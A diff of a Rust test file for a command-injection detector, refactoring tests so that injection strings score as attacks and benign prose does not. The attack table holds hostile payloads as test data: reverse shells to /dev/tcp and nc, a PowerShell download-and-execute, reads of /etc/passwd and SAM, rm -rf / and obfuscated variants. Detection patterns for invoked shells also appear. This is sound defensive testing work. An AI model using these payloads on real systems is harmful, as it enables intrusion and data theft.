@@ -1,6 +1,7 @@
 use super::gate_tests::known_program_spec;
 use super::*;
 use crate::other_util::take_steps;
+use crate::test_tables::{assert_all_at_least, assert_all_below};
 use crate::FieldKind;
 use palisade_testkit::rng::XorShift64;
 
@@ -10,89 +11,85 @@ fn q(v: &str) -> u8 {
 
 #[test]
 fn attacks() {
-    let mut bad: Vec<String> = Vec::new();
-    for v in [
-        ";id",
-        "; id",
-        "a;id|",
-        "| whoami",
-        "' || whoami",
-        "\"; cat /etc/passwd",
-        "127.0.0.1 && ping -c 3 evil.com",
-        "`ping 127.0.0.1`",
-        "$(sleep 5)",
-        "x$(id)",
-        "a);/usr/bin/id",
-        "; c''at /etc/passwd",
-        "'i'd",
-        "x;i'd' ",
-        "a;w'h'o'am'i",
-        "; c\\at /etc/passwd",
-        ";w^h^o^a^m^i",
-        "cat${IFS}/etc/passwd",
-        ";cat$IFS$9/etc/passwd",
-        "{cat,/etc/passwd}",
-        "a;{ id; }",
-        "& dir C:\\Users",
-        "| type %SYSTEMROOT%\\repair\\SAM",
-        "& ipconfig /all",
-        "\nid\n",
-        "() { :;}; /bin/bash -c \"id\"",
-        "powershell -enc SQBFAFgA",
-        "IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
-        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
-        "; nc -lvvp 4444 -e /bin/sh",
-        "<!--#exec cmd=\"/bin/ls\" -->",
-        "ls -la /var/www",
-        "x; rm -rf /",
-        "%0aid",
-    ] {
-        if q(v) < 60 {
-            bad.push(format!("{v:?}: {}", q(v)));
-        }
-    }
-    assert!(bad.is_empty(), "{bad:#?}");
+    assert_all_at_least(
+        &[
+            ";id",
+            "; id",
+            "a;id|",
+            "| whoami",
+            "' || whoami",
+            "\"; cat /etc/passwd",
+            "127.0.0.1 && ping -c 3 evil.com",
+            "`ping 127.0.0.1`",
+            "$(sleep 5)",
+            "x$(id)",
+            "a);/usr/bin/id",
+            "; c''at /etc/passwd",
+            "'i'd",
+            "x;i'd' ",
+            "a;w'h'o'am'i",
+            "; c\\at /etc/passwd",
+            ";w^h^o^a^m^i",
+            "cat${IFS}/etc/passwd",
+            ";cat$IFS$9/etc/passwd",
+            "{cat,/etc/passwd}",
+            "a;{ id; }",
+            "& dir C:\\Users",
+            "| type %SYSTEMROOT%\\repair\\SAM",
+            "& ipconfig /all",
+            "\nid\n",
+            "() { :;}; /bin/bash -c \"id\"",
+            "powershell -enc SQBFAFgA",
+            "IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "; nc -lvvp 4444 -e /bin/sh",
+            "<!--#exec cmd=\"/bin/ls\" -->",
+            "ls -la /var/www",
+            "x; rm -rf /",
+            "%0aid",
+        ],
+        Level::Balanced,
+        q,
+    );
 }
 
 #[test]
 fn prose_and_benign() {
-    let mut bad: Vec<String> = Vec::new();
-    for v in [
-        "I like my cat; she likes me",
-        "cats and dogs; ls is not a word here",
-        "Tom & Jerry",
-        "salt & pepper; more please",
-        "type here",
-        "more info",
-        "find a store near you",
-        "Use `ls` to list files in the directory, then `cd` into it",
-        "1;1;1;CONTROL;0;0;1;",
-        "id",
-        "ls",
-        "time & date",
-        "R&D; head of sales",
-        "rock & roll; sleep well",
-        "He said: 'echo' and left",
-        "see the docs (id, name)",
-        "I can't find it; which one?",
-        "https://example.com/a?b=1&c=2",
-        "{\"a\": [1, 2, {\"b\": \"c\"}]}",
-        "Hello, world! How are you?",
-        "price: 10 | 20 | 30",
-        "(cat) is an animal",
-        // An apostrophe that never closes does not hide a command name (`I'd` is not `id`).
-        "I'd like to order 2 pizzas; one with cheese & one without.",
-        "I'd say yes | no",
-        // Template placeholders are literal words to a shell.
-        "Hello {{name}}, your order {{id}} shipped",
-        "{id}",
-        "x;{whoami}",
-    ] {
-        if q(v) >= 60 {
-            bad.push(format!("{v:?}: {}", q(v)));
-        }
-    }
-    assert!(bad.is_empty(), "{bad:#?}");
+    assert_all_below(
+        &[
+            "I like my cat; she likes me",
+            "cats and dogs; ls is not a word here",
+            "Tom & Jerry",
+            "salt & pepper; more please",
+            "type here",
+            "more info",
+            "find a store near you",
+            "Use `ls` to list files in the directory, then `cd` into it",
+            "1;1;1;CONTROL;0;0;1;",
+            "id",
+            "ls",
+            "time & date",
+            "R&D; head of sales",
+            "rock & roll; sleep well",
+            "He said: 'echo' and left",
+            "see the docs (id, name)",
+            "I can't find it; which one?",
+            "https://example.com/a?b=1&c=2",
+            "{\"a\": [1, 2, {\"b\": \"c\"}]}",
+            "Hello, world! How are you?",
+            "price: 10 | 20 | 30",
+            "(cat) is an animal",
+            // An apostrophe that never closes does not hide a command name (`I'd` is not `id`).
+            "I'd like to order 2 pizzas; one with cheese & one without.",
+            "I'd say yes | no",
+            // Template placeholders are literal words to a shell.
+            "Hello {{name}}, your order {{id}} shipped",
+            "{id}",
+            "x;{whoami}",
+        ],
+        Level::Balanced,
+        q,
+    );
 }
 
 #[test]
@@ -338,7 +335,8 @@ fn plain_values_agree_with_the_walk() {
     let (mut plain, mut yes) = (0usize, 0usize);
     for v in &values {
         let walk = command_position_walk(v.as_bytes());
-        assert_eq!(program_in_command_position(v), reference_walk(v.as_bytes()), "{v:?}");
+        assert_eq!(program_in_command_position(v), walk, "{v:?}");
+        assert!(walk || !spec_program_in_command_position(v), "{v:?}");
         assert_eq!(plain_or_walk(v.as_bytes(), 0), walk, "{v:?}");
         if !v.bytes().any(|c| PLAIN_CLASS[c as usize] == NOT_PLAIN) {
             plain += 1;
@@ -349,15 +347,16 @@ fn plain_values_agree_with_the_walk() {
     assert!(plain > values.len() / 4 && yes > 100, "{plain} {yes}");
 }
 
-/// The gate's test ([`gate_test`]) and [`program_in_command_position`] say what the slow
-/// references say ([`bare_word`] for a bare word, [`reference_walk`] otherwise) on generated
+/// The gate's test ([`gate_test`]) and [`program_in_command_position`] say what the walk
+/// says ([`bare_word`] for a bare word), and the walk finds every program the grammar puts in
+/// command position ([`spec_program_in_command_position`]), on generated
 /// values: concatenations of programs (plain, upper case, with `.exe`, after a path), URL and
 /// path pieces (`https://x.org/v2/`, `{size}`, `/???/?at`), operators, blanks, quotes, escapes,
 /// `$IFS`, ANSI-C quoting and words longer than any program; and the whole gate (`%`, the
 /// literals, the test) admits each of those the check reports (those whose length is a
 /// multiple of 8: the check costs more).
 #[test]
-fn gate_test_agrees_with_the_references_on_generated_values() {
+fn gate_test_agrees_with_the_walk_and_the_grammar_on_generated_values() {
     const PARTS: &[&str] = &[
         "cat",
         "whoami",
@@ -431,14 +430,17 @@ fn gate_test_agrees_with_the_references_on_generated_values() {
         "é",
     ];
     let mut rng = XorShift64::new(0x2545_f491_4f6c_dd1d);
-    let (mut yes, mut walks, mut bare, mut fired) = (0usize, 0usize, 0usize, 0usize);
+    let (mut yes, mut walks, mut bare, mut fired, mut by_spec) = (0usize, 0usize, 0usize, 0usize, 0usize);
     for _ in 0..200_000 {
         let mut v = String::new();
         for _ in 0..1 + rng.below(8) {
             v.push_str(PARTS[rng.below(PARTS.len())]);
         }
-        let walk = reference_walk(v.as_bytes());
+        let walk = command_position_walk(v.as_bytes());
         assert_eq!(program_in_command_position(&v), walk, "{v:?}");
+        let spec = spec_program_in_command_position(&v);
+        assert!(walk || !spec, "{v:?}: the grammar puts a program in command position");
+        by_spec += usize::from(spec);
         let word = !v.is_empty() && v.len() <= 64 && v.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_');
         if word {
             // A gate literal opens the gate before its test runs; bare_word leaves those words
@@ -468,118 +470,72 @@ fn gate_test_agrees_with_the_references_on_generated_values() {
             }
         }
     }
-    assert!(yes > 20_000 && walks > 150_000 && bare > 1_000 && fired > 1_000, "{yes} yes, {walks} walked, {bare} bare words, {fired} hits");
+    assert!(
+        yes > 20_000 && walks > 150_000 && bare > 1_000 && fired > 1_000 && by_spec > 10_000,
+        "{yes} yes, {walks} walked, {bare} bare words, {fired} hits, {by_spec} by the grammar"
+    );
 }
 
-/// [`command_position_walk`] as it was before its fast paths (a byte at a time, no plain-value
-/// shortcut): the reference the fast paths are compared with.
-fn reference_walk(b: &[u8]) -> bool {
-    let mut cmdpos = true;
-    let mut i = 0;
+/// A program in command position as the shell's grammar puts it, written for the test from
+/// the rules rather than the walk: the value is cut into commands at every operator
+/// ([`is_gate_op`]: `;` `|` `&` `` ` `` `(` `)` `{` `}` `<` `>`, line breaks, `$(`, `\n`/`\r`
+/// written out) and at every CSI escape; each command's first word (after blanks: whitespace,
+/// `+`, `,`, `$IFS`, a `${IFS...}` expansion) loses its quotes and `^`, is lowercased and cut to its base name
+/// after the last `/` or `\`, and is looked up in the lists. The walk reads more words than
+/// these (it is a superset: `$@`, `\` inside a word, glob paths, ANSI-C quoting), so the
+/// property is one way: what this finds, the walk finds.
+fn spec_program_in_command_position(v: &str) -> bool {
+    // `${IFS...}` is a parameter expansion (its text is no command) that expands to a blank.
+    let mut text = String::new();
+    let mut rest = v;
+    while let Some(p) = rest.find("${IFS") {
+        text.push_str(&rest[..p]);
+        text.push(' ');
+        rest = rest[p..].find('}').map_or(&rest[p + 5..], |e| &rest[p + e + 1..]);
+    }
+    text.push_str(rest);
+    let b = text.as_bytes();
+    let mut commands: Vec<&[u8]> = Vec::new();
+    let (mut start, mut i) = (0, 0);
     while i < b.len() {
-        let c = b[i];
-        let next = b.get(i + 1).copied().unwrap_or(0);
-        let csi = if c == b'\\' { csi_len(&b[i..]) } else { 0 };
-        if csi > 0 {
-            cmdpos = true;
-            i += csi;
-            continue;
-        }
-        if is_gate_op(c, next) {
-            cmdpos = true;
-            i += if c == b'$' || c == b'\\' { 2 } else { 1 };
-            continue;
-        }
-        if c == b'$' && b[i + 1..].starts_with(b"IFS") {
-            i += 4;
-            continue;
-        }
-        if c == b'$' && b[i + 1..].starts_with(b"{IFS") {
-            i += 1 + b[i + 1..].iter().position(|&x| x == b'}').map_or(4, |p| p + 1);
-            continue;
-        }
-        if c.is_ascii_whitespace() || c == b'+' || c == b',' {
+        let csi = csi_len(&b[i..]);
+        let op = if csi > 0 {
+            csi
+        } else if is_gate_op(b[i], b.get(i + 1).copied().unwrap_or(0)) {
+            if matches!(b[i], b'$' | b'\\') {
+                2
+            } else {
+                1
+            }
+        } else {
+            0
+        };
+        if op > 0 {
+            commands.push(&b[start..i]);
+            i += op;
+            start = i;
+        } else {
             i += 1;
-            continue;
-        }
-        // A word: up to a blank or an operator.
-        let word_start = i;
-        let mut a = [0u8; 20];
-        let mut la = 0usize; // after the last `/` or `\`
-        let mut bb = [0u8; 20];
-        let mut lb = 0usize; // after the last `/`, `\` dropped
-        let mut content = false;
-        while i < b.len() {
-            let c = b[i];
-            // Letters and digits (most bytes of most words) end nothing and are only recorded.
-            if c.is_ascii_alphanumeric() {
-                ref_push_lower(&mut a, &mut la, c);
-                ref_push_lower(&mut bb, &mut lb, c);
-                content = true;
-                i += 1;
-                continue;
-            }
-            let next = b.get(i + 1).copied().unwrap_or(0);
-            if c.is_ascii_whitespace()
-                || c == b'+'
-                || c == b','
-                || is_gate_op(c, next)
-                || (c == b'\\' && csi_len(&b[i..]) > 0)
-                || (c == b'$' && (b[i + 1..].starts_with(b"IFS") || b[i + 1..].starts_with(b"{IFS")))
-            {
-                break;
-            }
-            i += 1;
-            match c {
-                b'\'' | b'"' | b'^' => continue,
-                b'$' if matches!(next, b'@' | b'*' | b'0'..=b'9') => {
-                    i += 1;
-                    continue;
-                }
-                b'/' => {
-                    la = 0;
-                    lb = 0;
-                }
-                b'\\' => la = 0,
-                _ => {
-                    ref_push_lower(&mut a, &mut la, c);
-                    ref_push_lower(&mut bb, &mut lb, c);
-                }
-            }
-            content = true;
-        }
-        if cmdpos && content && (known_program_spec(&a, la) || known_program_spec(&bb, lb) || word_start < b.len() && hidden_program(&b[word_start..i])) {
-            return true;
-        }
-        if content {
-            cmdpos = false;
-            // Nothing is in command position again before the next operator: skip to it (a
-            // superset of the tokenizer's resets: an operator inside `${IFS...}` counts too).
-            loop {
-                let Some(k) = b[i..].iter().position(|&c| MAY_OPERATE[c as usize]) else {
-                    i = b.len();
-                    break;
-                };
-                i += k;
-                let c = b[i];
-                if is_gate_op(c, b.get(i + 1).copied().unwrap_or(0)) || (c == b'\\' && csi_len(&b[i..]) > 0) {
-                    break;
-                }
-                i += 1;
-            }
         }
     }
-    false
-}
-fn ref_push_lower(buf: &mut [u8; 20], len: &mut usize, c: u8) {
-    if let Some(slot) = buf.get_mut(*len) {
-        *slot = c.to_ascii_lowercase();
-    }
-    *len += 1;
+    commands.push(&b[start..]);
+    commands.iter().any(|c| {
+        let text = String::from_utf8_lossy(c).replace("$IFS", " ");
+        let Some(word) = text.split(|ch: char| ch.is_ascii_whitespace() || ch == '+' || ch == ',').find(|w| !w.is_empty()) else { return false };
+        let word: String = word.chars().filter(|ch| !matches!(ch, '\'' | '"' | '^')).collect::<String>().to_ascii_lowercase();
+        let base = word.rsplit(['/', '\\']).next().unwrap_or("");
+        let mut buf = [0u8; 20];
+        base.len() <= 20 && {
+            buf[..base.len()].copy_from_slice(base.as_bytes());
+            known_program_spec(&buf, base.len())
+        }
+    })
 }
 
+/// The automaton of [`specials`] finds what `str::find` (the first occurrence of each
+/// pattern) and `str::match_indices` (every `iex` and ` -e`) find, on generated values.
 #[test]
-fn specials_agree_with_the_reference() {
+fn special_matches_are_those_of_a_search_per_pattern() {
     let parts = [
         "() {",
         "()",
@@ -625,68 +581,21 @@ fn specials_agree_with_the_reference() {
         "ie",
         "x ",
     ];
+    let pats = special_patterns();
     let mut rng = XorShift64::new(0x2545_f491_4f6c_dd1d);
     let mut found = 0;
     for _ in 0..40_000 {
-        let v = rng.joined(&parts, 8);
-        let r = specials_reference(&v);
-        found += usize::from(r.is_some());
-        assert_eq!(specials(&v), r, "{v:?}");
+        let l = rng.joined(&parts, 8).to_ascii_lowercase();
+        let mut want = SpecialMatches { first: [None; SP_COUNT], iex: SmallVec::new(), dash_e: SmallVec::new() };
+        for (k, p) in pats.iter().enumerate() {
+            want.first[k] = l.find(p);
+        }
+        want.iex.extend(l.match_indices("iex").map(|(i, _)| i));
+        want.dash_e.extend(l.match_indices(" -e").map(|(i, _)| i));
+        found += usize::from(want.first.iter().any(Option::is_some));
+        assert_eq!(special_matches(&l), want, "{l:?}");
     }
     assert!(found > 10_000, "{found}");
-}
-
-/// [`specials`] as written before its single automaton pass: one substring search per pattern
-/// (the reference of `specials_agree_with_the_reference`).
-fn specials_reference(s: &str) -> Option<Hit> {
-    let l = s.to_ascii_lowercase();
-    step(l.len() * 2);
-    let mut out = None;
-    let mut add = |c: u8, frag: &str, why: &'static str| out = best(out.take(), Some(mk(NAME, Category::Cmdi, c, frag, why)));
-    if let Some(p) = l.find("() {") {
-        // Bash imports `() {` at the start of an environment value as a function: nothing but
-        // blanks, a quote or an assignment before it (`f() { ... }` in code is a named
-        // function, not Shellshock).
-        let before = l[..p].trim_end().as_bytes().last().copied();
-        if matches!(before, None | Some(b'=' | b'\'' | b'"' | b':')) && l[p..].contains(';') && l[p..].contains('}') {
-            add(98, &s[p..], "shellshock function definition");
-        }
-    }
-    if let Some(p) = l.find("<!--#exec") {
-        add(95, &s[p..], "server-side include exec");
-    }
-    // The same table as `specials` (the search is what this reference checks, not the data).
-    for (pat, c, why) in SHELL_LITERALS {
-        if let Some(p) = l.find(pat) {
-            add(c, &s[p..], why);
-        }
-    }
-    // `iex(...)` / `| iex`, `powershell -enc <base64>`, `cmd /c`.
-    for (i, _) in l.match_indices("iex") {
-        step(1);
-        let before = l[..i].trim_end();
-        let after = l[i + 3..].trim_start();
-        let word = (i == 0 || !l.as_bytes()[i - 1].is_ascii_alphanumeric()) && !l.as_bytes().get(i + 3).is_some_and(|b| b.is_ascii_alphanumeric());
-        if word && (after.starts_with('(') || before.ends_with('|') || before.ends_with(';')) {
-            add(85, &s[i..], "PowerShell IEX");
-        }
-    }
-    let has_ps = l.contains("powershell") || l.contains("pwsh");
-    for (i, _) in l.match_indices(" -e").take_while(|_| has_ps) {
-        step(1);
-        let rest = &l[i + 3..];
-        let flag_end = rest.find(' ').unwrap_or(rest.len());
-        let flag = &rest[..flag_end];
-        if "ncodedcommand".starts_with(flag) || flag.is_empty() || flag == "nc" || flag == "c" {
-            add(90, &s[i..], "PowerShell encoded command");
-        }
-    }
-    for pat in ["cmd /c", "cmd.exe /c", "cmd /k", "cmd.exe /k", "/bin/sh -c", "/bin/bash -c", "bash -i", "sh -i"] {
-        if let Some(p) = l.find(pat) {
-            add(85, &s[p..], "shell invoked with a command");
-        }
-    }
-    out
 }
 
 #[test]
